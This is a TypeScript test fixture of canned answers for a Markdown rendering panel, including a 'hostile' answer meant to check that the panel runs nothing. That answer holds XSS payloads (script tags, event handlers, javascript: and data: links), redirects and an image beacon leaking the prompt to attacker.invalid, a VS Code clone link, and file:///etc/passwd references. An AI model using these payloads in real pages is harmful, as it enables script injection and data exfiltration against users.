/** Answers that are there to be shown, not read: a long one, a hostile one, one of many scripts. */

const SAYS = "This text is the stand-in's, written in advance: it is no answer of a model.";

const sentence = (section: number, number: number) =>
  `Sentence ${number} of section ${section} stands here so that the panel has something to scroll, and says nothing about the image.`;

const section = (number: number) => `## Section ${number}

${[1, 2, 3].map((at) => sentence(number, at)).join(" ")} It has **bold**, *slanted* and \`code\` words.

- ${sentence(number, 4)}
- ${sentence(number, 5)}
  - ${sentence(number, 6)}

\`\`\`ts
export function section${number}(image: Uint8Array): { width: number; height: number; colours: readonly string[] } {
  throw new Error("Stand-in: section ${number} has no implementation, only a line that is long enough to need scrolling.");
}
\`\`\`

${[7, 8].map((at) => sentence(number, at)).join(" ")}
`;

const columns = Array.from({ length: 14 }, (_, at) => at + 1);
const row = (cell: (column: number) => string) => `| ${columns.map(cell).join(" | ")} |`;
const wideTable = [
  row((column) => `Column number ${column}`),
  row(() => "---"),
  ...[1, 2, 3, 4, 5, 6].map((line) => row((column) => `row_${line}_cell_${column}`)),
].join("\n");

/** About 2000 words. */
export const LONG = `# A long answer\n\n${SAYS}\n\n${Array.from({ length: 9 }, (_, at) => section(at + 1)).join("\n")}\n## A wide table\n\n${wideTable}\n\nThis is the last line of the long answer.\n`;

/** Everything that Markdown has and people use. */
export const RICH = `# All that an answer has

${SAYS} It has **bold**, *slanted*, ~~struck~~ and \`code\` words, a [link](https://example.com/docs), and a note[^1].

- [x] read the picture
- [ ] mend the **form**

| Element | Count |
| --- | ---: |
| \`button\` | 12 |
| input | 3 |

\`\`\`ts
/** Adds them up. */
export function total(values: readonly number[]): number {
  return values.reduce((sum, value) => sum + value, 0.5);
}
\`\`\`

A formula in a line, $e^{i\\pi} + 1 = 0$, and one by itself:

$$
\\bar{x} = \\frac{1}{n} \\sum_{i=1}^{n} x_i
$$

\`\`\`mermaid
flowchart LR
  A[Upload] --> B{Valid?}
  B -- yes --> C[Save]
  B -- no --> D[Report]
\`\`\`

\`\`\`mermaid
flowchart LR
  A --> [[[
\`\`\`

> Quoted from the picture

[^1]: This is the note.
`;

/** What no panel may run, load or obey. */
export const HOSTILE = `# A hostile answer

${SAYS} Nothing in it may run, load or leave the panel.

<script>document.title = "owned"; parent.postMessage({ type: "owned" }, "*")</script>
<img src="x" onerror="document.title='owned'">
<svg onload="document.title='owned'"><a xlink:href="javascript:document.title='owned'">svg</a></svg>
<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<style>body { display: none }</style>
<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=https://attacker.invalid/">
<form action="https://attacker.invalid/"><button>Send</button></form>
<a href="command:workbench.action.terminal.new">html command</a>

[script link](javascript:document.title='owned')
[script link, hidden](java&#115;cript:document.title='owned')
[data link](data:text/html,<script>document.title='owned'</script>)
[command link](command:workbench.action.terminal.new)
[editor link](vscode://vscode.git/clone?url=https://attacker.invalid/x.git)
[file link](file:///etc/passwd)
[honest link](https://example.com/ "Only this may be followed")

![remote image](https://attacker.invalid/pixel.png?leak=prompt)
![file image](file:///etc/passwd)
![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

\`\`\`html"><script>document.title='owned'</script>
</code></pre><script>document.title='owned'</script>
\`\`\`

Right to left: \u202Egnp.exe\u202C. A word that does not end: ${"unbroken".repeat(60)}

${"> ".repeat(80)}deep
`;

/** Two-, three- and four-byte characters, joined emoji, combining marks, both directions. */
export const SCRIPTS = `${SAYS} Größe, naïve, Ελληνικά, 日本語の文字, 한국어, العربية, עברית, हिन्दी, e\u0301, 👍🏽, 👩‍👩‍👧‍👦, 🏳️‍🌈, 𝒳, ﷽ – end.`;
